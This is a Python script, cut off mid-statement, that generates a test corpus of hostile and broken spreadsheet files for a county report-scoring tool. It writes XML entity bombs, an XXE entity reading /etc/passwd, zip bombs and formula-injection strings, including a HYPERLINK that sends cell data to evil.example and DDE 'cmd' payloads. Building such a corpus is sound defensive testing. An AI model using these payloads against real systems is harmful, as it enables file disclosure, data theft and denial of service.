"""The corpus of hostile and broken county files (tests/corpus/), made by code, not by hand.

Run from the repository root::

    python scripts/make_corpus.py tests/corpus          # the small files (committed)
    python scripts/make_corpus.py /tmp/corpus --big     # also the big ones (zip bombs, 1M rows, 20k members)

It writes a small province (``province/``: a targets workbook for four counties and a valid
standard form for each) and the corpus (``files/``), each file with the outcome it must give in
``manifest.json``: the problem codes its own file must get, what becomes of its county, and
whether it replaces the victim county's valid form or is added beside the valid forms.

The big files are stream-generated (a 1 GB zip bomb costs the script a few MB of memory), and are
left out of the committed corpus; the tests make them in a temporary folder with ``--big-only``.
Everything is deterministic: same script, same bytes.
"""

from __future__ import annotations

import argparse
import datetime as dt
import io
import json
import random
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

from minsheng import County, Reporter, Rule, Scheme, Submission, Targets, Value, load_scheme
from minsheng.testing import write_cfb

YEAR = 2007
COUNTIES = (
    County("360102", "东湖区", "3601", "南昌市"),
    County("360103", "西湖区", "3601", "南昌市"),
    County("360104", "青云谱区", "3601", "南昌市"),
    County("360111", "青山湖区", "3601", "南昌市"),
)
VICTIM = COUNTIES[3]  # the county whose file is replaced by a corpus file
UNKNOWN = County("369999", "不存在县", "3699", "不存在市")
ZIP_DATE = (2008, 1, 10, 0, 0, 0)
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)

# --------------------------------------------------------------------------------------------
# the small province


def allocation_for(scheme: Scheme, index: int) -> dict[str, Decimal | None]:
    """Targets for county ``index``: round numbers that differ by county."""
    out: dict[str, Decimal | None] = {}
    for ind in scheme.indicators:
        if not ind.needs_target:
            continue
        if ind.unit == "%":
            out[ind.code] = Decimal("4.5") if ind.code == "2.1" else Decimal(90)
        else:
            out[ind.code] = Decimal(1000 * (index + 1))
    return out


def targets_for(scheme: Scheme) -> Targets:
    return Targets(
        year=YEAR,
        counties=COUNTIES,
        allocations={c.code: allocation_for(scheme, i) for i, c in enumerate(COUNTIES)},
    )


def submission_for(
    scheme: Scheme, county: County, allocation: dict[str, Decimal | None], seed: int
) -> Submission:
    """A plausible year-end report: each target met at 80–120 %, drawn from ``seed``."""
    rng = random.Random(seed)
    values: dict[str, Value] = {}
    for ind in scheme.indicators:
        target = allocation.get(ind.code)
        if ind.rule in (Rule.DEDUCT, Rule.VETO):
            values[ind.code] = Value.of(0)
        elif ind.rule is Rule.BINARY:
            values[ind.code] = Value.of(ind.threshold if ind.threshold is not None else (target or 0))
        elif ind.rule is Rule.INFO or target is None:
            continue
        elif ind.unit == "%":
            values[ind.code] = Value.of(
                Decimal("3.9") if ind.code == "2.1" else Decimal(rng.randrange(80, 101))
            )
        else:
            values[ind.code] = Value.of((target * Decimal(rng.randrange(80, 121)) / 100).quantize(Decimal(1)))
    for ind in scheme.indicators:  # 其中 parts: an even split of their total
        if ind.parts and ind.code in values and values[ind.code].amount is not None:
            share = (values[ind.code].amount / len(ind.parts)).quantize(Decimal(1))  # type: ignore[operator]
            for code in ind.parts:
                values[code] = Value.of(share)
            values[ind.code] = Value.of(share * len(ind.parts))
    day = dt.date(2008, 1, 5 + seed % 4)
    return Submission(
        county=county.code,
        year=YEAR,
        values=values,
        reporter=Reporter(f"{county.name}劳动和社会保障局", "王敏", "0791-8888888", day),
        submitted_on=day,
    )


def form_name(county: County, suffix: str = ".xlsx") -> str:
    from minsheng.workbooks import form_filename

    return form_filename(county, YEAR).removesuffix(".xlsx") + suffix


def write_province(out: Path, scheme: Scheme) -> dict[str, Path]:
    """targets.xlsx and one valid standard form per county; returns county code → form path."""
    from minsheng.workbooks import write_form, write_targets_template

    targets = targets_for(scheme)
    (out / "province").mkdir(parents=True, exist_ok=True)
    write_targets_template(scheme, out / "province" / "targets.xlsx", targets=targets)
    forms: dict[str, Path] = {}
    for i, county in enumerate(COUNTIES):
        alloc = targets.allocations[county.code]
        path = out / "province" / form_name(county)
        write_form(
            scheme,
            path,
            year=YEAR,
            county=county,
            allocation=alloc,
            submission=submission_for(scheme, county, alloc, i),
        )
        forms[county.code] = path
    return forms


# --------------------------------------------------------------------------------------------
# byte-level helpers


def rezip(
    data: bytes,
    changes: dict[str, bytes | Callable[[bytes], bytes] | None],
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """The zip ``data`` with members changed (bytes or a function of the old bytes), removed
    (None) or added (``extra``); fixed dates, so the bytes are deterministic."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            name = info.filename
            body = zin.read(name)
            if name in changes:
                change = changes[name]
                if change is None:
                    continue
                body = change(body) if callable(change) else change
            zout.writestr(zipfile.ZipInfo(name, ZIP_DATE), body, zipfile.ZIP_DEFLATED)
        for name, body in (extra or {}).items():
            zout.writestr(zipfile.ZipInfo(name, ZIP_DATE), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def _with_doctype(xml: bytes, doctype: bytes) -> bytes:
    """``xml`` with a DOCTYPE after its XML declaration."""
    m = re.match(rb"<\?xml[^>]*\?>", xml)
    cut = m.end() if m else 0
    return xml[:cut] + doctype + xml[cut:]


LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10))
    + b"]>"
)


def entity_bomb_sheet(form: bytes) -> bytes:
    def change(xml: bytes) -> bytes:
        xml = _with_doctype(xml, LAUGHS)
        return xml.replace(b"<t>", b"<t>&a9;", 1)

    return rezip(form, {SHEET: change})


def entity_bomb_shared_strings(form: bytes) -> bytes:
    sst = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + LAUGHS.replace(b"worksheet", b"sst")
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        b"<si><t>&a9;</t></si></sst>"
    )

    def types(xml: bytes) -> bytes:
        return xml.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )

    def rels(xml: bytes) -> bytes:
        return xml.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        )

    return rezip(
        form,
        {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
        {"xl/sharedStrings.xml": sst},
    )


def xxe(form: bytes) -> bytes:
    def change(xml: bytes) -> bytes:
        xml = _with_doctype(xml, b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
        return xml.replace(b"<t>", b"<t>&xxe;", 1)

    return rezip(form, {SHEET: change})


def deep_xml(form: bytes, depth: int = 100_000) -> bytes:
    nest = b"<extLst>" + b"<ext>" * depth + b"</ext>" * depth + b"</extLst>"
    return rezip(form, {SHEET: lambda xml: xml.replace(b"</worksheet>", nest + b"</worksheet>")})


def lying_dimension(form: bytes) -> bytes:
    return rezip(
        form, {SHEET: lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:J1048576"', xml)}
    )


def blank_rows(form: bytes, rows: int = 1_000_000) -> bytes:
    """A million formatted blank rows after the form (styled, no values), streamed into the zip."""

    def change(xml: bytes) -> bytes:
        last = max(int(r) for r in re.findall(rb'<row r="(\d+)"', xml))
        body = b"".join(
            b'<row r="%d" s="1" customFormat="1" ht="15" customHeight="1"><c r="A%d" s="1"/></row>' % (r, r)
            for r in range(last + 1, last + 1 + rows)
        )
        xml = re.sub(rb'<dimension ref="[^"]*"/>', b"", xml)
        return xml.replace(b"</sheetData>", body + b"</sheetData>")

    return rezip(form, {SHEET: change})


# --------------------------------------------------------------------------------------------
# files as other office suites write them (#17)


def _xlsb_record(kind: int, body: bytes = b"") -> bytes:
    """One MS-XLSB record: its type (7 bits a byte, two at most) and length (four at most)."""
    head = bytes([kind]) if kind < 0x80 else bytes([(kind & 0x7F) | 0x80, kind >> 7])
    n, size = len(body), bytearray()
    while True:
        size.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            break
    return head + bytes(size) + body


def _wide(text: str) -> bytes:
    data = text.encode("utf-16-le")
    return struct.pack("<I", len(data) // 2) + data


def _xlsb_sheet(rows: list[list[object]], dimension: tuple[int, int, int, int] | None = None) -> bytes:
    """A worksheet part: BrtBeginSheet, BrtWsDim, the rows (BrtRowHdr, BrtCellReal/BrtCellSt)."""
    last_row = max(len(rows) - 1, 0)
    last_col = max((len(r) for r in rows), default=1) - 1
    dim = dimension or (0, last_row, 0, max(last_col, 0))
    out = [_xlsb_record(0x81), _xlsb_record(0x94, struct.pack("<4I", *dim)), _xlsb_record(0x91)]
    for r, line in enumerate(rows):
        if not any(v not in (None, "") for v in line):
            continue
        out.append(_xlsb_record(0x00, struct.pack("<IIH", r, 0, 0) + b"\0" * 7))
        for c, v in enumerate(line):
            head = struct.pack("<II", c, 0)
            if isinstance(v, bool) or v is None or v == "":
                continue
            if isinstance(v, int | float | Decimal):
                out.append(_xlsb_record(0x05, head + struct.pack("<d", float(v))))
            else:
                out.append(_xlsb_record(0x06, head + _wide(str(v))))
    out += [_xlsb_record(0x92), _xlsb_record(0x82)]
    return b"".join(out)


def write_xlsb(
    sheets: dict[str, list[list[object]]], *, dimension: tuple[int, int, int, int] | None = None
) -> bytes:
    """An Excel binary workbook (.xlsb) holding ``sheets`` (name → rows of values), as Excel
    writes the parts calamine reads: workbook.bin with one BrtBundleSh per sheet, the sheets'
    .bin parts, and the relationships that join them."""
    bundles, rels, types, parts = [], [], [], {}
    for i, (name, rows) in enumerate(sheets.items(), start=1):
        bundles.append(_xlsb_record(0x9C, struct.pack("<II", 0, i) + _wide(f"rId{i}") + _wide(name)))
        rels.append(
            f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/worksheet" Target="worksheets/sheet{i}.bin"/>'
        )
        types.append(
            f'<Override PartName="/xl/worksheets/sheet{i}.bin" ContentType="application/vnd.ms-excel.worksheet"/>'
        )
        parts[f"xl/worksheets/sheet{i}.bin"] = _xlsb_sheet(rows, dimension)
    book = b"".join(
        [_xlsb_record(0x83), _xlsb_record(0x8F), *bundles, _xlsb_record(0x90), _xlsb_record(0x84)]
    )
    rel_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    members = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.bin" '
            'ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
            + "".join(types)
            + "</Types>"
        ).encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{rel_ns}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="xl/workbook.bin"/></Relationships>'
        ).encode(),
        "xl/workbook.bin": book,
        "xl/_rels/workbook.bin.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{rel_ns}">'
            + "".join(rels)
            + "</Relationships>"
        ).encode(),
        **parts,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(zipfile.ZipInfo(name, ZIP_DATE), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def formatted_to_last_row(form: bytes) -> bytes:
    """What Mac Excel writes for a sheet formatted down to the last row: a dimension to row
    1,048,576 and the last row's formatted, empty cells; the values are the form's."""

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:I1048576"', xml)
        last = b'<row r="1048576" s="1" customFormat="1"><c r="A1048576" s="1"/><c r="I1048576" s="1"/></row>'
        return xml.replace(b"</sheetData>", last + b"</sheetData>")

    return rezip(form, {SHEET: change})


def comment_in_last_cell(form: bytes) -> bytes:
    """What Excel 2007 writes for a comment on the sheet's last cell: the dimension to XFD1048576,
    a comments part and its relationship; the cell itself holds nothing."""
    comments = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<authors><author>\xe7\x8e\x8b\xe6\x95\x8f</author></authors><commentList>"
        b'<comment ref="XFD1048576" authorId="0"><text><t>\xe6\xa0\xb8\xe5\xaf\xb9</t></text></comment>'
        b"</commentList></comments>"
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" '
        b'Target="../comments1.xml"/></Relationships>'
    )

    def types(xml: bytes) -> bytes:
        part = (
            b'<Override PartName="/xl/comments1.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/>'
        )
        return xml.replace(b"</Types>", part + b"</Types>")

    def sheet(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
        return xml.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')

    return rezip(
        form,
        {SHEET: sheet, "[Content_Types].xml": types},
        {"xl/comments1.xml": comments, "xl/worksheets/_rels/sheet1.xml.rels": rels},
    )


def gnumeric_style(form: bytes) -> bytes:
    """As Gnumeric writes a sheet: the dimension over its whole classic grid (A1:IV65536) and the
    formatted area's empty cells written out, far beyond the values."""

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:IV65536"', xml)
        tail = b"".join(
            b'<row r="%d" spans="1:256"><c r="A%d" s="0"/><c r="IV%d" s="0"/></row>' % (r, r, r)
            for r in (100, 1000, 65536)
        )
        return xml.replace(b"</sheetData>", tail + b"</sheetData>")

    return rezip(form, {SHEET: change})


def unusual_part_names(form: bytes) -> bytes:
    """A valid package whose parts are not where Excel puts them (``excel/book.xml`` …): its
    relationships and content types say where they are, as the format allows."""
    out = io.BytesIO()
    rename = {"xl/workbook.xml": "excel/book.xml", "xl/_rels/workbook.xml.rels": "excel/_rels/book.xml.rels"}
    with zipfile.ZipFile(io.BytesIO(form)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            name = info.filename
            body = zin.read(name)
            target = rename.get(name) or (("excel/" + name[3:]) if name.startswith("xl/") else name)
            if name == "[Content_Types].xml" or name.endswith(".rels"):
                body = body.replace(b"/xl/workbook.xml", b"/excel/book.xml").replace(
                    b'"xl/workbook.xml"', b'"excel/book.xml"'
                )
                body = body.replace(b'"/xl/', b'"/excel/')
            zout.writestr(zipfile.ZipInfo(target, ZIP_DATE), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def biff5_book(path: Path) -> Path:
    """An Excel 5.0/95 workbook: an OLE2 file whose stream is named Book and starts with a BIFF5 BOF."""
    bof = struct.pack("<HHHH", 0x0809, 8, 0x0500, 0x0005) + b"\0" * 4
    sheet = struct.pack("<HHIBB", 0x0085, 12, 0, 0, 0) + b"\x06Sheet1"
    eof = struct.pack("<HH", 0x000A, 0)
    return write_cfb(path, {"Book": bof + sheet + eof})


#: an Excel 4.0 worksheet: a bare BIFF4 stream, no OLE2 container
EXCEL4 = struct.pack("<HHHHH", 0x0409, 6, 0, 0x0010, 0) + struct.pack("<HH", 0x000A, 0)


def xlsb_form(src: Path) -> bytes:
    """The victim's form saved as an Excel binary workbook (.xlsb): every sheet's values."""
    from minsheng.sheets import open_workbook

    with open_workbook(src) as book:
        return write_xlsb({sheet.name: [list(r) for r in sheet.grid()] for sheet in book})


def xlsb_lying_record(form_xlsb: bytes) -> bytes:
    """The .xlsb with one sheet record claiming 256 MB where it holds 16 bytes (a small file that
    would make a reader allocate what the record claims)."""
    end = _xlsb_record(0x92)
    bad = bytes([0x05, 0xFF, 0xFF, 0xFF, 0x7F]) + b"\0" * 16
    return rezip(form_xlsb, {"xl/worksheets/sheet1.bin": lambda b: b.replace(end, bad + end, 1)})


def xlsb_far_cell(form_xlsb: bytes) -> bytes:
    """The .xlsb with one more value at XFD1048576: the grid from A1 to it would be 17 billion cells."""
    far = _xlsb_record(0x00, struct.pack("<IIH", 1048575, 0, 0) + b"\0" * 7) + _xlsb_record(
        0x05, struct.pack("<IId", 16383, 0, 1.0)
    )
    end = _xlsb_record(0x92)
    return rezip(form_xlsb, {"xl/worksheets/sheet1.bin": lambda b: b.replace(end, far + end, 1)})


def many_members(form: bytes, n: int = 20_000) -> bytes:
    return rezip(form, {}, {f"xl/media/image{i}.bin": b"" for i in range(n)})


def zip_bomb(form: bytes, path: Path, size: int = (1 << 30) + (64 << 20), *, lie: bool = False) -> Path:
    """The form with its sheet replaced by ``size`` bytes of XML that inflate from about a
    thousandth of that: written block by block, so neither the script nor the zip module holds
    it. With ``lie``, the zip declares the sheet to be 1000 bytes (the central directory lies)."""
    with zipfile.ZipFile(io.BytesIO(form)) as zin:
        members = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    tail = b"</sheetData></worksheet>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        for name, body in members:
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name != SHEET:
                zout.writestr(info, body)
                continue
            block = b" " * (8 << 20)
            with zout.open(info, "w", force_zip64=True) as fh:
                fh.write(head)
                left = size - len(head) - len(tail)
                while left > 0:
                    fh.write(block[: min(left, len(block))])
                    left -= len(block)
                fh.write(tail)
    if lie:
        _declare_size(path, SHEET, 1000)
    return path


def _declare_size(path: Path, member: str, size: int) -> None:
    """Make the central directory and local header of ``member`` claim ``size`` uncompressed bytes."""
    raw = bytearray(path.read_bytes())
    name = member.encode()
    pos = 0
    while (pos := raw.find(b"PK\x01\x02", pos)) >= 0:
        n_len, x_len = struct.unpack_from("<HH", raw, pos + 28)
        if raw[pos + 46 : pos + 46 + n_len] == name:
            struct.pack_into("<I", raw, pos + 24, size)
            extra = pos + 46 + n_len
            end = extra + x_len
            while extra + 4 <= end:  # the zip64 extra field holds the real sizes: shrink it too
                tag, length = struct.unpack_from("<HH", raw, extra)
                if tag == 1 and length >= 8:
                    struct.pack_into("<Q", raw, extra + 4, size)
                extra += 4 + length
            local = struct.unpack_from("<I", raw, pos + 42)[0]
            struct.pack_into(
                "<I",
                raw,
                local + 22,
                size if raw[local + 22 : local + 26] != b"\xff\xff\xff\xff" else 0xFFFFFFFF,
            )
        pos += 4
    path.write_bytes(bytes(raw))


def encrypted(path: Path) -> Path:
    """What Excel writes for a password-protected .xlsx: an OLE2 file with EncryptionInfo and
    EncryptedPackage streams (the package bytes drawn from a fixed seed)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b"</encryption>"
    )
    package = struct.pack("<Q", 8192) + random.Random(7).randbytes(8192)
    return write_cfb(path, {"EncryptionInfo": info, "EncryptedPackage": package})


# --------------------------------------------------------------------------------------------
# cell-level mutations of the victim's form (openpyxl, saved deterministically)


def _edit_form(src: Path, dst: Path, edit: Callable[..., None]) -> Path:
    import openpyxl

    from minsheng.workbooks._output import save_workbook, stamp_for

    wb = openpyxl.load_workbook(src)
    edit(wb, _value_cells(wb.worksheets[0]))
    save_workbook(wb, dst, stamp_for(dt.date(2008, 1, 8)))
    return dst


def _value_cells(ws) -> dict[str, object]:  # type: ignore[no-untyped-def]
    """Indicator code → its 累计完成 cell in the form sheet."""
    done_col = code_col = None
    header_row = 0
    for row in ws.iter_rows(max_row=12):
        for cell in row:
            if cell.value == "累计完成":
                done_col, header_row = cell.column, cell.row
            elif cell.value == "指标代码":
                code_col = cell.column
    assert done_col and code_col, "the form has no 累计完成 / 指标代码 header"
    out = {}
    for r in range(header_row + 1, ws.max_row + 1):
        code = ws.cell(r, code_col).value
        if isinstance(code, str) and re.fullmatch(r"\d+\.\d+(\.\d+)?(/\w+)?", code):
            out[code] = ws.cell(r, done_col)
    return out


def _text(cell, value: str) -> None:  # type: ignore[no-untyped-def]
    """Write ``value`` as text even when it starts with '=' (openpyxl would make it a formula)."""
    cell.value = value
    cell.data_type = "s"


def error_cells(wb, cells) -> None:  # type: ignore[no-untyped-def]
    cells["1.1"].value = "#DIV/0!"  # openpyxl writes a known error literal as an error cell (t="e")
    cells["1.2"].value = "#REF!"
    cells["1.3"].value = "=1.1*2"  # a formula saved without a result


def text_for_numbers(wb, cells) -> None:  # type: ignore[no-untyped-def]
    cells["1.1"].value = "一千二百"
    cells["1.2"].value = "约500"
    cells["1.3"].value = "见附表"


def negative_and_absurd(wb, cells) -> None:  # type: ignore[no-untyped-def]
    cells["1.1"].value = -500
    cells["1.2"].value = 9.99e15
    cells["1.3"].value = 1e300


def hidden_data(wb, cells) -> None:  # type: ignore[no-untyped-def]
    decoy = wb.create_sheet("Sheet1", 0)
    decoy["A1"] = "本表数据见其他工作表"
    wb.active = 0
    for ws in wb.worksheets[1:]:
        ws.sheet_state = "hidden"
        ws.sheet_view.tabSelected = False


def injection(wb, cells) -> None:  # type: ignore[no-untyped-def]
    """A formula-looking string in every text field of the form (labels, reporter lines, notes)."""
    ws = wb.worksheets[0]
    k = 0
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and not cell.value.startswith("=") and "：" in cell.value:
                label = cell.value.split("：", 1)[0]
                if label in ("县（市、区）", "代码", "年度", "方案"):
                    continue  # keep the form recognisable: the county, year and scheme stay
                _text(cell, f"{label}：{INJECTIONS[k % len(INJECTIONS)]}")
                k += 1
    done = [c for c in cells.values()]
    for cell in done:  # the 备注 column: one column right of 自评分
        note = ws.cell(cell.row, cell.column + 3)
        if note.value is None:
            _text(note, INJECTIONS[k % len(INJECTIONS)])
            k += 1


def roster_bad_ids(path: Path) -> Path | None:
    """The roster layout with invalid and duplicated 身份证号 (needs the minsheng-roster plugin)."""
    try:
        import minsheng_roster
    except ImportError:
        return None
    import openpyxl

    from minsheng.workbooks._output import save_workbook, stamp_for

    scheme = load_scheme("jiangxi-2007")
    targets = targets_for(scheme)
    sub = submission_for(scheme, VICTIM, targets.allocations[VICTIM.code], 3)
    minsheng_roster.write_sample(path, sub, scheme, noise=False, county_name=VICTIM.name, seed=3)
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        header = next((c for row in ws.iter_rows(max_row=10) for c in row if c.value == "身份证号"), None)
        if header is None:
            continue
        rows = [r for r in range(header.row + 1, ws.max_row + 1) if ws.cell(r, header.column).value]
        if len(rows) < 10:
            continue
        col = header.column
        ws.cell(rows[0], col).value = "36010219800101123"  # 17 characters
        ws.cell(rows[1], col).value = "360102198013011234"  # month 13
        ws.cell(rows[3], col).value = ws.cell(rows[4], col).value  # the same person twice
        ws.cell(rows[5], col).value = "ABCDEFGHIJKLMNOPQR"
    save_workbook(wb, path, stamp_for(dt.date(2008, 1, 10)))
    return path


def xls_summary(path: Path) -> Path | None:
    """The .xls summary layout of the victim (needs the minsheng-xls-summary plugin)."""
    try:
        import minsheng_xls_summary
    except ImportError:
        return None
    scheme = load_scheme("jiangxi-2007")
    targets = targets_for(scheme)
    sub = submission_for(scheme, VICTIM, targets.allocations[VICTIM.code], 3)
    tmp = path.with_name(path.name + ".xls")
    minsheng_xls_summary.write_sample(tmp, sub, scheme, county_name=VICTIM.name, seed=3)
    tmp.replace(path)
    return path


# --------------------------------------------------------------------------------------------
# the corpus

#: what becomes of the corpus file's county: failed (出错), scored (已评), or scored with problems
FAILED, SCORED = "failed", "scored"


def make_small(out: Path) -> dict[str, dict[str, object]]:
    """Write the province and the small corpus files; return the manifest."""
    scheme = load_scheme("jiangxi-2007")
    forms = write_province(out, scheme)
    files = out / "files"
    files.mkdir(parents=True, exist_ok=True)
    form = forms[VICTIM.code].read_bytes()
    victim = VICTIM.code
    manifest: dict[str, dict[str, object]] = {}

    def add(name: str, data: bytes | None, codes: list[str], status: str, note: str, **extra: object) -> None:
        path = files / name
        if data is not None:
            path.write_bytes(data)
        if not path.exists():
            return
        manifest[name] = {
            "codes": codes,
            "status": status,
            "county": victim,
            "mode": "replace",
            "note": note,
            **extra,
        }

    add(
        "entity-bomb-sheet.xlsx",
        entity_bomb_sheet(form),
        ["unsafe-xml"],
        FAILED,
        "billion laughs in the sheet XML",
    )
    add(
        "entity-bomb-shared-strings.xlsx",
        entity_bomb_shared_strings(form),
        ["unsafe-xml"],
        FAILED,
        "billion laughs in sharedStrings.xml",
    )
    add("xxe.xlsx", xxe(form), ["unsafe-xml"], FAILED, "an external entity reading /etc/passwd")
    add(
        "not-a-spreadsheet.xlsx",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        ["not-a-spreadsheet"],
        FAILED,
        "a PDF with a spreadsheet's name",
    )
    add(
        "web-page.xls",
        b"<html><body><table><tr><td>1.1</td><td>1200</td></tr></table></body></html>\n",
        ["not-a-spreadsheet"],
        FAILED,
        "an HTML export named .xls",
    )
    add("empty.xlsx", b"", ["not-a-spreadsheet"], FAILED, "an empty file")
    add(
        "random-bytes.xlsx",
        random.Random(2007).randbytes(4096),
        ["not-a-spreadsheet"],
        FAILED,
        "4 KiB of random bytes",
    )
    add(
        "truncated.xlsx",
        form[: len(form) // 3],
        ["unreadable-file"],
        FAILED,
        "the first third of a valid form",
    )
    encrypted(files / "encrypted.xlsx")
    add(
        "encrypted.xlsx",
        None,
        ["encrypted-workbook"],
        FAILED,
        "a password-protected workbook (OLE2 EncryptionInfo)",
    )
    add("xlsx-named-xls.xls", form, [], SCORED, "a valid .xlsx form named .xls: read by content")
    xls_summary(files / "xls-named-xlsx.xlsx")
    add(
        "xls-named-xlsx.xlsx",
        None,
        [],
        SCORED,
        "an .xls (the xls-summary layout) named .xlsx",
        plugin="xls-summary",
    )
    add(
        "dimension-1048576.xlsx",
        lying_dimension(form),
        [],
        SCORED,
        "a dimension claiming A1:J1048576: the declared range costs nothing",
    )
    add_office_files(add, files, form, src=forms[victim])
    add("deep-xml.xlsx", deep_xml(form), ["xml-too-deep"], FAILED, "100,000 nested elements in the sheet")
    src = forms[victim]
    _edit_form(src, files / "error-cells.xlsx", error_cells)
    add(
        "error-cells.xlsx",
        None,
        ["error-cell", "uncached-formula"],
        SCORED,
        "#DIV/0!, #REF! and a formula without a result",
    )
    _edit_form(src, files / "text-for-numbers.xlsx", text_for_numbers)
    add(
        "text-for-numbers.xlsx",
        None,
        ["not-a-number"],
        SCORED,
        "一千二百, 约500, 见附表 where numbers belong",
    )
    _edit_form(src, files / "negative-absurd.xlsx", negative_and_absurd)
    add(
        "negative-absurd.xlsx",
        None,
        ["negative-value", "implausible-value"],
        SCORED,
        "-500, 9.99e15 and 1e300",
    )
    _edit_form(src, files / "hidden-sheet.xlsx", hidden_data)
    add(
        "hidden-sheet.xlsx",
        None,
        ["no-plugin"],
        FAILED,
        "the form on a hidden sheet behind an empty visible one",
    )
    _edit_form(src, files / "formula-injection.xlsx", injection)
    add(
        "formula-injection.xlsx", None, [], SCORED, "formula-looking text in every text field", injection=True
    )
    roster_bad_ids(files / "roster-bad-ids.xlsx")
    add(
        "roster-bad-ids.xlsx",
        None,
        ["invalid-id", "duplicate-id"],
        SCORED,
        "身份证号 invalid and duplicated",
        plugin="roster",
    )
    # files added beside the valid forms
    dup = files / "duplicate-360102.xlsx"
    dup.write_bytes(forms["360102"].read_bytes())
    manifest[dup.name] = {
        "codes": ["duplicate-submission"],
        "status": FAILED,  # two reports for one period: neither is scored until one is withdrawn
        "county": "360102",
        "mode": "add",
        "note": "a second copy of 东湖区's form",
    }
    from minsheng.workbooks import write_form

    write_form(
        scheme,
        files / "unknown-county.xlsx",
        year=YEAR,
        county=UNKNOWN,
        allocation={},
        submission=submission_for(scheme, UNKNOWN, {}, 9),
    )
    manifest["unknown-county.xlsx"] = {
        "codes": ["unknown-county"],
        "status": None,
        "county": UNKNOWN.code,
        "mode": "add",
        "note": "a county code that is not in the targets",
    }
    lock = files / ("~$" + form_name(VICTIM)[2:])
    lock.write_bytes(b"\x08" + "王敏".encode("utf-16-le").ljust(161, b"\x00"))
    manifest[lock.name] = {
        "codes": [],
        "status": SCORED,
        "county": victim,
        "mode": "lock",
        "note": "Excel's ~$ owner file beside the victim's valid form (the form is open in Excel)",
    }
    (out / "manifest.json").write_text(
